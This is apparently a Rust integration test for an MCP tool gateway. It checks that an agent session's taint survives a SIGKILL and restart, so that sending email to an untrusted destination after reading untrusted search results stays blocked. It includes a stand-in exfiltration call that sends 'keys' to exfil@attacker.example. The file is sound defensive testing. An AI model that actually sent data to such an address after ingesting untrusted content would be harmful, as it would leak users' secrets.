//! A single-replica gateway with `store: {path: …}`: its agent sessions live in an embedded
//! store file (0600), so a gateway killed with SIGKILL and started again still denies a send
//! to a destination tainted before; a second gateway on the same file is refused.

use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use toolgate_testkit::bin_path;
use toolgate_testkit::gateway::{GatewayProcess, message_of};

const TOKEN: &str = "alice-token-0123456789";

const POLICY: &str = r#"version: 1
default: allow
packs: [email]
tools:
  send_email:
    trusted_destinations: ["*@team.example"]
  search_emails:
    output: untrusted
"#;

fn config(dir: &Path) -> PathBuf {
    let hash = hex::encode(Sha256::digest(TOKEN.as_bytes()));
    let text = format!(
        r#"version: 1
listen: 127.0.0.1:0
public_url: http://127.0.0.1:8443
replica: solo
secret: {{ file: secret }}
audit: audit.jsonl
store: {{ path: state/gateway.redb }}
auth:
  tokens:
    - {{ user: alice, sha256: {hash}, groups: [dev] }}
servers:
  mail:
    command: [{attack}, --kind, mail]
    policy: policy.yaml
"#,
        attack = bin_path("attack_server").display(),
    );
    let path = dir.join("gateway.yaml");
    std::fs::write(&path, text).unwrap();
    path
}

/// Opens an MCP session of agent session `agent` and returns its id.
fn open(gw: &GatewayProcess, agent: &str) -> String {
    let init = json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {},
        "clientInfo": {"name": "embedded-tests", "version": "1"}}});
    let auth = format!("Bearer {TOKEN}");
    let reply = toolgate_testkit::http::request(
        &gw.addr,
        "POST",
        "/servers/mail/mcp",
        &[
            ("Content-Type", "application/json"),
            ("Accept", "application/json, text/event-stream"),
            ("Authorization", auth.as_str()),
            ("Toolgate-Agent-Session", agent),
        ],
        init.to_string().as_bytes(),
    );
    assert_eq!(reply.status, 200);
    let session = reply
        .header("mcp-session-id")
        .expect("session id")
        .to_owned();
    assert!(message_of(reply).get("result").is_some());
    let r = gw.post(
        "mail",
        TOKEN,
        Some(&session),
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
    );
    assert_eq!(r.status, 202);
    session
}

fn call(gw: &GatewayProcess, session: &str, id: u64, tool: &str, args: Value) -> Value {
    let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
        "params": {"name": tool, "arguments": args}});
    message_of(gw.post("mail", TOKEN, Some(session), &msg.to_string()))
}

fn blocked(answer: &Value) -> Option<String> {
    let result = answer.get("result")?;
    if result["isError"] != json!(true) {
        return None;
    }
    let text = result["content"][0]["text"].as_str()?;
    text.starts_with("toolgate blocked")
        .then(|| text.to_owned())
}

#[test]
fn a_gateway_with_a_store_file_resumes_taint_after_sigkill() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().canonicalize().unwrap();
    std::fs::write(
        dir.join("secret"),
        "5b1f0c8e7a2d4c6b9e0f1a3c5d7e9f1b2c4d6e8f0a1b3c5d7e9f0a2b4c6d8e0f",
    )
    .unwrap();
    std::fs::write(dir.join("policy.yaml"), POLICY).unwrap();
    let config = config(&dir);
    let mut gw = GatewayProcess::start(&crate::common::toolgate_bin(), &config, &[]);
    let s = open(&gw, "agent-1");
    let read = call(&gw, &s, 1, "search_emails", json!({"query": "migration"}));
    assert!(blocked(&read).is_none(), "{read}");
    let send = json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "x"});
    assert!(blocked(&call(&gw, &s, 2, "send_email", send.clone())).is_some());
    // The file is private (relative to the configuration file).
    let store = dir.join("state/gateway.redb");
    assert_eq!(std::fs::metadata(&store).unwrap().mode() & 0o777, 0o600);

    // A second gateway on the same file is refused, saying why.
    let mut second = std::process::Command::new(env!("CARGO_BIN_EXE_toolgate"))
        .args(["gateway", "--config"])
        .arg(&config)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let exited = toolgate_testkit::wait_until(std::time::Duration::from_secs(20), || {
        second.try_wait().unwrap().is_some()
    });
    if !exited {
        let _ = second.kill();
    }
    let out = second.wait_with_output().unwrap();
    assert!(exited && !out.status.success(), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("in use by another process"), "{err}");

    // Killed and started again: the agent session's taint is still there.
    gw.kill();
    let gw = GatewayProcess::start(&crate::common::toolgate_bin(), &config, &[]);
    let s = open(&gw, "agent-1");
    let again = call(&gw, &s, 3, "send_email", send);
    let why = blocked(&again).unwrap_or_else(|| panic!("not blocked: {again}"));
    assert!(
        why.contains("exfil@attacker.example") && why.contains("search_emails"),
        "{why}"
    );
}
